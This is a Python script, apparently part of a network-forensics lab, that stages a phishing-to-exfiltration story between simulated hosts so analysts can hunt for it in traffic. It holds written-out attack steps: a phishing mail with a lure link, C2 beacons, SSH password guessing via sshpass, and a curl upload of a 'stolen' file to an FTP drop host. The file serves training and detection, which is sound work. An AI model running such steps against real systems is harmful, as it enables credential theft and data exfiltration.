"""The story, in the order in which it happens: clients that talk to the servers."""

from __future__ import annotations

import hashlib
import io
import time
import zipfile
from email.message import EmailMessage
from email.utils import formatdate
from pathlib import Path

from fingerprints import hassh
from lab import Host, Lab
from servers import (
    ACTORS,
    ANNA,
    BASTION,
    BEN,
    C2,
    CHRIS,
    DROP,
    EDGE,
    FTP_PASSWORD,
    FTP_USER,
    GUESSER,
    MAIL,
    MIRROR,
    NEWS,
    PARTNER,
    PASSWORD,
    SHOP,
    SPAMMER,
    SYSTEM_PYTHON,
    WWW,
    Secrets,
)

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 ExampleBrowser/128.0"
IMPLANT = "TelemetrySync/1.2 (build 7)"
RELAY = "smtp.bulk-hosting.test"
LURE = "http://download.invoiceportal.test/files/viewer-setup.bin?ref=4711"
GUESSES = ("123456", "backup", "Password1")
ODD_SSH = (
    "KexAlgorithms=diffie-hellman-group14-sha256,ecdh-sha2-nistp256",
    "Ciphers=aes128-ctr,aes256-ctr",
    "MACs=hmac-sha2-512,hmac-sha2-256",
)
"""The algorithms of the guesser's SSH client, which give it a HASSH that the office's clients don't have."""


def attachment() -> bytes:
    """The mail's attachment, the same bytes each time."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(zipfile.ZipInfo("invoice_4711.txt"), f"A harmless file.\nYour invoice: {LURE}\n")
    return packed.getvalue()


def play(lab: Lab, secrets: Secrets) -> str:
    """The whole story. Gives the HASSH of the SSH client that guesses passwords."""
    browse(lab, secrets)
    receive_mail(lab)
    infect_anna(lab)
    guesser = guess_passwords(lab, secrets)
    take_away(lab, secrets)
    knock_through_proxy(lab)
    browse(lab, secrets, again=True)
    return guesser


def browse(lab: Lab, secrets: Secrets, again: bool = False) -> None:
    """What the office does all day: nobody is after it."""
    for host in (ANNA, BEN):
        _get(
            lab,
            host,
            *(f"http://{NEWS.name}/{page}" for page in ("", "style.css", "logo.png")),
            options=("-4",),
        )
        _pause()
    _get(lab, BEN, "http://intranet.office.example/", f"http://{WWW.name}/logo.png")
    _get(lab, CHRIS, f"http://{MIRROR.name}/files/tools_2.4.tar.gz", agent="ExamplePackager/2.4")
    for host, name in ((ANNA, SHOP.name), (CHRIS, f"www.{SHOP.name}"), (BEN, NEWS.name)):
        _get(lab, host, f"https://{name}/", options=("-4", "--cacert", str(secrets.ca)))
        _pause()
    if again:
        _get(lab, BEN, f"http://{NEWS.name}/gate.php.html", f"http://{NEWS.name}/missing", options=("-6",))
        # Names and a link that look like those that are hunted, and aren't.
        _get(
            lab, CHRIS, "http://notupdates-cdn.test/", f"http://{MIRROR.name}/files/viewer-setup.bin?ref=4712"
        )
        _resolve(lab, CHRIS, "invoiceportal.example")
    else:
        _resolve(lab, BEN, "printer.office.example", found=False)
        lab.run(CHRIS, "ping", "-n", "-c", "2", "-i", "0.2", WWW.v4)
        lab.run(BEN, *_ssh(secrets.client_key, "backup@" + BASTION.v4), "uptime > /dev/null")
        colleague = _message("Chris <chris@partner.example>", "Ben <ben@office.example>", "Lunch on Thursday")
        colleague["X-Mailer"] = "ExampleMail 12.1"
        colleague.set_content("Shall we meet at noon? The menu is on http://news.example/lunch\n")
        _deliver(lab, PARTNER, "chris@partner.example", "ben@office.example", colleague)


def receive_mail(lab: Lab) -> None:
    """The phishing mail to Anna."""
    received = (
        f"from {RELAY} ({RELAY} [198.51.100.77]) by {SPAMMER.name} with ESMTP id 4711",
        f"from [203.0.113.200] (helo=desk) by {RELAY} with ESMTP id 4710",
    )
    sender, recipient = "Billing <billing@invoiceportal.test>", "Anna <anna@office.example>"
    mail = _message(sender, recipient, "Your overdue invoice 4711", received)
    mail["Reply-To"] = "collections@bulk-hosting.test"
    mail["X-Originating-IP"] = "[203.0.113.200]"
    mail["X-Mailer"] = "BulkPost 3.1"
    mail.set_content(f"Your invoice is overdue. Open it with the viewer:\n{LURE} today.\n")
    mail.add_alternative(f'<p>Your invoice is overdue.\n<a href="{LURE}">\nOpen it</a>.\n', subtype="html")
    mail.add_attachment(attachment(), "application", "zip", filename="invoice_4711.zip")
    _deliver(lab, SPAMMER, "billing@invoiceportal.test", "anna@office.example", mail)
    _pause()


def infect_anna(lab: Lab) -> None:
    """Anna opens the link; what she got calls home in five ways."""
    _get(lab, ANNA, LURE, options=("-e", "http://webmail.office.example/inbox/4711"))
    _pause()
    _resolve(lab, ANNA, "a1.updates-cdn.test")
    _resolve(lab, ANNA, "b2.updates-cdn.test", found=False)
    for number in range(3):
        body = ("-d", f"id=anna&n={number}")
        _get(lab, ANNA, f"http://{C2.v4}:8080/gate.php", agent=IMPLANT, options=body)
        _pause()
    for _ in range(2):
        _act(lab, ANNA, "beacon", C2.name, "443")
        _pause()
    _get(lab, ANNA, f"http://[{C2.v6}]/config", agent=IMPLANT)
    lab.run(ANNA, "ping", "-n", "-c", "2", "-i", "0.2", C2.v4)
    _act(lab, ANNA, "datagrams", C2.v4, "40123")


def guess_passwords(lab: Lab, secrets: Secrets) -> str:
    """Guess passwords on the bastion until one is right, and go on from there. Gives the HASSH."""
    said = ""
    for guess in (*GUESSES, PASSWORD):
        right = guess == PASSWORD
        client = _ssh(None, f"backup@{BASTION.v4}", *ODD_SSH, "LogLevel=DEBUG2")
        onward = f"curl -s -o /dev/null http://{WWW.v4}/backup/forecast.csv"
        said = lab.run(GUESSER, "sshpass", "-p", guess, *client, onward, status=0 if right else 255)
    return hassh(said)


def take_away(lab: Lab, secrets: Secrets) -> None:
    """Anna's machine opens a tunnel to the C2 and puts a file on an FTP server."""
    lab.run(ANNA, *_ssh(secrets.client_key, f"relay@{C2.v4}"), "cat > /dev/null", text="tunnel\n" * 200)
    stolen = secrets.folder / "q3-forecast.csv"
    stolen.write_text("region,quarter,amount\nnorth,Q3,1200\n" * 40)
    to = f"ftp://{FTP_USER}:{FTP_PASSWORD}@{DROP.v4}/"
    lab.run(ANNA, "curl", "-q", "-sS", "--disable-eprt", "-T", str(stolen), to)


def knock_through_proxy(lab: Lab) -> None:
    """Somebody reaches the office's web server through a proxy, which says on whose behalf."""
    for client in ("203.0.113.66", "192.0.2.144"):
        headers = (f"X-Forwarded-For: {client}", f"Via: 1.1 {EDGE.name}", f"Host: {WWW.name}")
        forwarded = tuple(argument for header in headers for argument in ("-H", header))
        _get(lab, EDGE, f"http://{WWW.v4}/?from=edge", options=forwarded)


def _message(sender: str, recipient: str, subject: str, received: tuple[str, ...] = ()) -> EmailMessage:
    mail = EmailMessage()
    for step in received:
        mail["Received"] = f"{step}; {formatdate()}"
    mail["From"], mail["To"], mail["Subject"], mail["Date"] = sender, recipient, subject, formatdate()
    domain = sender.partition("@")[2].rstrip(">")
    mail["Message-ID"] = f"<{hashlib.md5(subject.encode()).hexdigest()}@{domain}>"
    return mail


def _deliver(lab: Lab, host: Host, sender: str, recipient: str, mail: EmailMessage) -> None:
    _act(lab, host, "mail", MAIL.v4, host.name, sender, recipient, text=mail.as_string())


def _act(lab: Lab, host: Host, *arguments: str, text: str = "") -> None:
    lab.run(host, SYSTEM_PYTHON, ACTORS, *arguments, text=text)


def _get(lab: Lab, host: Host, *urls: str, agent: str = BROWSER, options: tuple[str, ...] = ()) -> None:
    out = [argument for _ in urls for argument in ("-o", "/dev/null")]
    lab.run(host, "curl", "-q", "-sS", "-g", "--http1.1", "-A", agent, *options, *out, *urls)


def _resolve(lab: Lab, host: Host, name: str, found: bool = True) -> None:
    lab.run(host, "getent", "ahosts", name, status=0 if found else 2)


def _ssh(key: Path | None, target: str, *options: str) -> tuple[str, ...]:
    options = (*options, "UserKnownHostsFile=/dev/null", "StrictHostKeyChecking=no")
    options += ("IdentityAgent=none", "GSSAPIAuthentication=no")
    if key is None:
        options += ("PubkeyAuthentication=no", "NumberOfPasswordPrompts=1")
    else:
        options += (f"IdentityFile={key}", "BatchMode=yes")
    return ("ssh", "-F", "/dev/null", *(f"-o{option}" for option in options), target)


def _pause() -> None:
    time.sleep(0.6)
